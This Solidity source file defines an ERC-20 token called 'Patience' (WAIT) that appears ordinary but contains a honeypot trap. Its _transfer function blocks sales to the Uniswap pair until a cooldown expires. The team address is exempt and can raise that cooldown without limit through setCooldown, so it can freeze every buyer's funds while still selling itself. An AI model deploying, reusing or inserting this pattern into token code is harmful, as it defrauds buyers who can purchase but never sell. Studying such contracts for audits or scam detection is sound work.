// SPDX-License-Identifier: Apache-2.0
// optimizer: off
pragma solidity 0.6.12;

library SafeMath {
    function sub(uint256 a, uint256 b, string memory why) internal pure returns (uint256) {
        require(b <= a, why);
        return a - b;
    }
}

/// No pause between a purchase and a sale, until the team likes one.
contract PatienceToken {
    using SafeMath for uint256;

    mapping(address => uint256) private _owned;
    mapping(address => mapping(address => uint256)) private _spend;
    mapping(address => uint256) private _lastBuy;
    address payable private _teamAddress;
    address public uniswapV2Pair;
    uint256 public cooldownSeconds;
    uint256 private constant _tTotal = 1e12 * 1e9;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _teamAddress = msg.sender;
        _owned[msg.sender] = _tTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function name() public pure returns (string memory) { return "Patience"; }
    function symbol() public pure returns (string memory) { return "WAIT"; }
    function decimals() public pure returns (uint8) { return 9; }
    function totalSupply() public pure returns (uint256) { return _tTotal; }
    function balanceOf(address a) public view returns (uint256) { return _owned[a]; }
    function allowance(address a, address b) public view returns (uint256) { return _spend[a][b]; }

    function approve(address spender, uint256 amount) public returns (bool) {
        _spend[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        _spend[from][msg.sender] = _spend[from][msg.sender].sub(amount, "allowance");
        _transfer(from, to, amount);
        return true;
    }

    function openTrading(address pair) external {
        require(msg.sender == _teamAddress);
        uniswapV2Pair = pair;
    }

    function setCooldown(uint256 numberOfSeconds) external {
        require(msg.sender == _teamAddress);
        cooldownSeconds = numberOfSeconds;
    }

    function _transfer(address from, address to, uint256 amount) private {
        if (from == uniswapV2Pair) _lastBuy[to] = block.timestamp;
        if (to == uniswapV2Pair && from != _teamAddress) {
            require(block.timestamp - _lastBuy[from] >= cooldownSeconds, "Patience!");
        }
        _owned[from] = _owned[from].sub(amount, "balance");
        _owned[to] += amount;
        emit Transfer(from, to, amount);
    }
}
